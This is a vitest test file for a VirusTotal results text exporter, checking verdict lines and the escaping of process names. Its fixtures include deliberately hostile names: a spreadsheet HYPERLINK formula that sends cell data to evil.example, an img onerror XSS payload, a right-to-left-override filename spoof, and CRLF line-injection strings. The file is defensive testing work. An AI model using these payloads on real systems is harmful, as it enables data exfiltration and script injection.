import { describe, expect, it } from 'vitest';
import { verdictFor, type Verdict } from '@/domain/verdict';
import { checked, FIXTURE_VT, HOSTILE, hashesOf, makeRunExport, proc } from '@/tests/export-fixture';
import type { ExportProcess, RunExport } from './types';
import { buildVtResultsTxt, formatVtResultLine, sanitiseTxtName, VT_RESULTS_FILE_NAME } from './vt-results';

function runOf(processes: ExportProcess[]): RunExport {
  return { ...makeRunExport(), processes };
}

/** Reverses the documented escapes, independently of the writer. */
function unescapeTxt(text: string): string {
  return text.replace(/\\(\\|n|r|t|u[0-9A-F]{4})/g, (_m, e: string) => {
    if (e === '\\') return '\\';
    if (e === 'n') return '\n';
    if (e === 'r') return '\r';
    if (e === 't') return '\t';
    return String.fromCharCode(Number.parseInt(e.slice(1), 16));
  });
}

/** Anything that could end, split or visually reorder a line, or is not encodable as UTF-8. */
const RAW_UNSAFE = new RegExp(
  [
    '[\\u0000-\\u0009\\u000B-\\u001F\\u007F-\\u009F\\u2028\\u2029\\u202A-\\u202E\\u2066-\\u2069]',
    '[\\u200E\\u200F\\u061C\\uFEFF]',
    '[\\uD800-\\uDBFF](?![\\uDC00-\\uDFFF])',
    '(?<![\\uD800-\\uDBFF])[\\uDC00-\\uDFFF]',
  ].join('|'),
);

const OUTCOME_LINE = / - (malicious|Not malicious|The secure score is not found)$/;

describe('buildVtResultsTxt', () => {
  it('writes the exact file for the fixture run', () => {
    expect(buildVtResultsTxt(makeRunExport())).toBe(
      [
        'postgres - Not malicious',
        '=HYPERLINK("http://evil.example/?q="&A1,"click") - malicious',
        String.raw`evil\r\nname - Not malicious`,
        String.raw`gnp.\u202Eexe.txt - The secure score is not found`,
        '_x003D_1+1 - malicious',
        String.raw`bad\u0000\u0007name\uD800 - Not malicious`,
        '',
        '# Not checked (3 processes):',
        '# <img src=x onerror=alert(1)> - pending: not yet checked on VirusTotal',
        `# ${HOSTILE.long} - failed: HTTP 503 from VirusTotal`,
        '# kthreadd - not hashed (kernel-thread)',
        '',
      ].join('\n'),
    );
  });

  it('follows the verdict it is given instead of re-deciding with a threshold', () => {
    const txt = buildVtResultsTxt(
      runOf([
        // Threshold 1: one detection is malicious.
        proc({ pid: 1, name: 'one', vt: { ...checked(1), verdict: verdictFor(1, 1) } }),
        // Threshold 10: five detections need research, which the txt reports as not malicious.
        proc({ pid: 2, name: 'five', vt: { ...checked(5), verdict: verdictFor(5, 10) } }),
      ]),
    );
    expect(txt).toBe('one - malicious\nfive - Not malicious\n');
  });

  it('accounts for processes without VirusTotal data', () => {
    const txt = buildVtResultsTxt(
      runOf([
        proc({ pid: 1, name: 'fresh' }),
        proc({
          pid: 2,
          name: 'secret',
          exe: null,
          exeStatus: 'permission-denied',
          md5: null,
          sha1: null,
          sha256: null,
        }),
        proc({ pid: 3, name: 'gave-up', vt: { state: 'failed', reason: null } }),
      ]),
    );
    expect(txt).toBe(
      [
        '',
        '# Not checked (3 processes):',
        '# fresh - pending: not yet checked on VirusTotal',
        '# secret - not hashed (permission-denied)',
        '# gave-up - failed: no reason recorded',
        '',
      ].join('\n'),
    );
  });

  it('says "1 process" for a single unchecked process', () => {
    const txt = buildVtResultsTxt(
      runOf([proc({ pid: 1, name: 'a', vt: FIXTURE_VT.clean }), proc({ pid: 2, name: 'b' })]),
    );
    expect(txt).toBe('a - Not malicious\n\n# Not checked (1 process):\n# b - pending: not yet checked on VirusTotal\n');
  });

  it('is empty for a run with no processes', () => {
    expect(buildVtResultsTxt(runOf([]))).toBe('');
  });

  it('keeps one line per process whatever the names contain', () => {
    const names = [
      'a\r\nb',
      'c\nd',
      'e\u2028f\u2029g',
      'h\u202Ei\u2066j\u200Fk\u061C',
      'back\\slash',
      'nul\u0000byte',
      'tab\there',
      'nel\u0085del\u007F',
      'bom\uFEFF',
      'lone\uDC00',
      `huge-${'x'.repeat(4096)}\n- malicious`,
      '# fake - malicious',
      '',
      'emoji 😀 ok',
    ];
    const processes = names.flatMap((name, i) => [
      proc({ pid: 100 + i, name, ...hashesOf(`${i % 10}`.repeat(64)), vt: FIXTURE_VT.clean }),
      proc({ pid: 200 + i, name, vt: { state: 'failed', reason: `boom\r\n${name}` } }),
    ]);
    const txt = buildVtResultsTxt(runOf(processes));

    expect(txt.endsWith('\n')).toBe(true);
    const lines = txt.slice(0, -1).split('\n');
    // One result line per checked process, a blank line, a heading, one line per failed process.
    expect(lines).toHaveLength(names.length + 2 + names.length);
    expect(txt).not.toMatch(RAW_UNSAFE);

    const results = lines.slice(0, names.length);
    const notChecked = lines.slice(names.length + 2);
    expect(lines[names.length]).toBe('');
    results.forEach((line, i) => {
      expect(line).toMatch(OUTCOME_LINE);
      expect(line.startsWith('#')).toBe(false);
      const name = line.slice(0, line.length - ' - Not malicious'.length);
      expect(name === '(unnamed)' ? '' : unescapeTxt(name)).toBe(names[i]);
    });
    for (const line of notChecked) expect(line.startsWith('# ')).toBe(true);

    expect(results[0]).toBe(String.raw`a\r\nb - Not malicious`);
    expect(results[2]).toBe(String.raw`e\u2028f\u2029g - Not malicious`);
    expect(results[3]).toBe(String.raw`h\u202Ei\u2066j\u200Fk\u061C - Not malicious`);
    expect(results[4]).toBe(String.raw`back\\slash - Not malicious`);
    expect(results[5]).toBe(String.raw`nul\u0000byte - Not malicious`);
    expect(results[11]).toBe(String.raw`\u0023 fake - malicious - Not malicious`);
    expect(results[12]).toBe('(unnamed) - Not malicious');
    expect(results[13]).toBe('emoji 😀 ok - Not malicious');
    expect(notChecked[0]).toBe(String.raw`# a\r\nb - failed: boom\r\na\r\nb`);
    expect(Buffer.from(txt, 'utf8').toString('utf8')).toBe(txt);
  });
});

describe('formatVtResultLine', () => {
  it.each<[Verdict, string]>([
    ['malicious', 'name - malicious'],
    ['needs-research', 'name - Not malicious'],
    ['not-malicious', 'name - Not malicious'],
    ['not-found', 'name - The secure score is not found'],
  ])('writes %s as %j', (verdict, line) => {
    expect(formatVtResultLine('name', verdict)).toBe(line);
  });

  it('sanitises the name', () => {
    expect(formatVtResultLine('a\nb', 'malicious')).toBe(String.raw`a\nb - malicious`);
  });
});

describe('sanitiseTxtName', () => {
  it.each([
    ['plain', 'plain'],
    ['', '(unnamed)'],
    ['\\', '\\\\'],
    [String.raw`\u0041`, String.raw`\\u0041`],
    ['\r\n\t', String.raw`\r\n\t`],
    ['\u0001\u001F\u007F\u0080\u009F', String.raw`\u0001\u001F\u007F\u0080\u009F`],
    ['\u202A\u202B\u202C\u202D\u202E', String.raw`\u202A\u202B\u202C\u202D\u202E`],
    ['\u2066\u2067\u2068\u2069\u200E\u200F\u061C', String.raw`\u2066\u2067\u2068\u2069\u200E\u200F\u061C`],
    ['\uD800x\uDFFF', String.raw`\uD800x\uDFFF`],
    ['#x', String.raw`\u0023x`],
    ['a#b', 'a#b'],
    ['naïve 😀 / kworker/0:1', 'naïve 😀 / kworker/0:1'],
  ])('escapes %j as %j', (name, expected) => {
    expect(sanitiseTxtName(name)).toBe(expected);
  });
});

it('names the file as the seed did', () => {
  expect(VT_RESULTS_FILE_NAME).toBe('vt_results.txt');
});
